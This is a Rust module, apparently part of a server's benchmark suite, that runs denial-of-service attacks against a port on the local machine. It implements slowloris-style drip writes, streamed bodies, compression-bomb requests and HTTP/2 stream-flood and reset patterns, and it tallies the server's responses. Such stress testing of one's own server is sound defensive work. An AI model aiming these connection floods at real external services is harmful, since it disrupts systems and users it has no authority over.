//! The attacker: opens the connections of an attack, and usually opens each again when it ends.

use std::net::{Ipv4Addr, SocketAddr};
use std::sync::{Arc, Mutex, PoisonError};
use std::time::Duration;

use anyhow::{Context as _, Result};
use nix::sys::resource::{Resource, getrlimit, setrlimit};
use tokio::io::{AsyncReadExt as _, AsyncWriteExt as _};
use tokio::net::{TcpSocket, TcpStream};
use tokio::task::JoinSet;
use tokio::time::{sleep, timeout};

use super::bomb::bomb;
use super::list::{self, Attack, Conduct};
use super::{Seen, http2};
use crate::bench::load;

/// The time in which all connections are opened.
const RAMP: Duration = Duration::from_secs(2);
/// The pause before a connection is opened again.
const PAUSE: Duration = Duration::from_millis(20);
/// The time limit for a connection, which a full queue of the kernel may exceed.
const CONNECT_LIMIT: Duration = Duration::from_secs(5);

/// Runs an attack against a port of this machine for some time.
///
/// # Errors
///
/// Fails if the attack is unknown, or if a program that it needs is missing.
pub async fn attack(name: &str, port: u16, time: Duration) -> Result<Seen> {
    let attack = list::attack(name).context("an unknown attack")?;
    let (_, most) = getrlimit(Resource::RLIMIT_NOFILE)?;
    setrlimit(Resource::RLIMIT_NOFILE, most, most)?;
    let conduct = Arc::new(prepare((attack.conduct)())?);
    let seen = Arc::new(Mutex::new(Seen::default()));
    let mut tasks = JoinSet::new();
    let every = RAMP / u32::try_from(attack.connections)?;
    for number in 0..attack.connections {
        let attacker = Attacker {
            source: source(attack, number),
            port,
            is_opened_again: attack.is_opened_again,
            conduct: Arc::clone(&conduct),
            seen: Arc::clone(&seen),
        };
        let delay = every * u32::try_from(number)?;
        tasks.spawn(async move {
            sleep(delay).await;
            attacker.run(number).await;
        });
    }
    sleep(time).await;
    tasks.shutdown().await;
    let mut seen = seen.lock().unwrap_or_else(PoisonError::into_inner);
    Ok(std::mem::take(&mut seen))
}

/// Replaces a bomb by its request.
fn prepare(conduct: Conduct) -> Result<Conduct> {
    let Conduct::Bomb { is_signed } = conduct else {
        return Ok(conduct);
    };
    let requests = vec![list::compressed_request(is_signed, &bomb()?)];
    Ok(Conduct::Repeat { requests })
}

/// Returns the address of a connection. The healthy sender has another one.
fn source(attack: &Attack, number: usize) -> Ipv4Addr {
    let host = number % usize::from(attack.sources);
    Ipv4Addr::new(127, 0, 1, 1 + u8::try_from(host).unwrap_or_default())
}

/// One connection at a time.
struct Attacker {
    source: Ipv4Addr,
    port: u16,
    is_opened_again: bool,
    conduct: Arc<Conduct>,
    seen: Arc<Mutex<Seen>>,
}

impl Attacker {
    async fn run(&self, number: usize) {
        // The connections begin with different requests.
        let mut next = number;
        loop {
            if let Ok(Ok(mut stream)) = timeout(CONNECT_LIMIT, self.connect()).await {
                self.see(|seen| seen.connections += 1);
                // Every end of a connection is expected.
                self.misbehave(&mut stream, &mut next).await.ok();
                if !self.is_opened_again {
                    return;
                }
            }
            sleep(PAUSE).await;
        }
    }

    async fn connect(&self) -> std::io::Result<TcpStream> {
        let socket = TcpSocket::new_v4()?;
        socket.bind(SocketAddr::from((self.source, 0)))?;
        let stream = socket
            .connect(SocketAddr::from((Ipv4Addr::LOCALHOST, self.port)))
            .await?;
        stream.set_nodelay(true)?;
        Ok(stream)
    }

    async fn misbehave(&self, stream: &mut TcpStream, next: &mut usize) -> Result<()> {
        match &*self.conduct {
            Conduct::Drip { first, interval } => {
                let (reader, mut writer) = stream.split();
                let write = async {
                    writer.write_all(first).await?;
                    loop {
                        sleep(*interval).await;
                        writer.write_all(b"a").await?;
                    }
                };
                self.until_answer(reader, write).await
            }
            Conduct::Stream { first, part, times } => {
                let (reader, mut writer) = stream.split();
                let write = async {
                    writer.write_all(first).await?;
                    for _ in 0..*times {
                        writer.write_all(part).await?;
                    }
                    std::future::pending().await
                };
                self.until_answer(reader, write).await
            }
            Conduct::Repeat { requests } => {
                let mut buffer = Vec::new();
                loop {
                    let request = &requests[*next % requests.len()];
                    *next += 1;
                    if let Some(status) = write_request(stream, request, &mut buffer).await? {
                        self.answered(status);
                        return Ok(());
                    }
                    let status = timeout(CONNECT_LIMIT * 2, load::answer(stream, &mut buffer));
                    self.answered(status.await??);
                }
            }
            Conduct::Bomb { .. } => anyhow::bail!("the bomb is not prepared"),
            Conduct::Streams { is_reset } => http2::flood(stream, *is_reset).await,
            Conduct::Frames(frame) => http2::repeat(stream, frame).await,
            Conduct::Unread => http2::leave_unread(stream).await,
            Conduct::DripInStreams { length, interval } => {
                http2::drip(stream, *length, *interval).await
            }
        }
    }

    /// Writes until an answer arrives or the connection ends.
    async fn until_answer(
        &self,
        mut reader: impl tokio::io::AsyncRead + Unpin,
        write: impl Future<Output = std::io::Result<()>>,
    ) -> Result<()> {
        let mut buffer = Vec::new();
        tokio::select! {
            status = first_status(&mut reader, &mut buffer) => self.answered(status?),
            written = write => written?,
        }
        Ok(())
    }

    fn answered(&self, status: u16) {
        self.see(|seen| *seen.statuses.entry(status).or_default() += 1);
    }

    fn see(&self, change: impl FnOnce(&mut Seen)) {
        change(&mut self.seen.lock().unwrap_or_else(PoisonError::into_inner));
    }
}

/// Writes a request. Returns the status of an answer that arrives before the whole request is written, after which the
/// rest of it is not read.
async fn write_request(
    stream: &mut TcpStream,
    request: &[u8],
    buffer: &mut Vec<u8>,
) -> Result<Option<u16>> {
    let (mut reader, mut writer) = stream.split();
    tokio::select! {
        early = first_status(&mut reader, buffer) => early.map(Some),
        written = writer.write_all(request) => Ok(written.map(|()| None)?),
    }
}

/// Reads the status of an answer.
async fn first_status(
    reader: &mut (impl tokio::io::AsyncRead + Unpin),
    buffer: &mut Vec<u8>,
) -> Result<u16> {
    buffer.clear();
    while buffer.len() < 12 {
        anyhow::ensure!(reader.read_buf(buffer).await? > 0, "the connection ended");
    }
    let status = std::str::from_utf8(buffer.get(9..12).unwrap_or_default())?;
    Ok(status.parse()?)
}
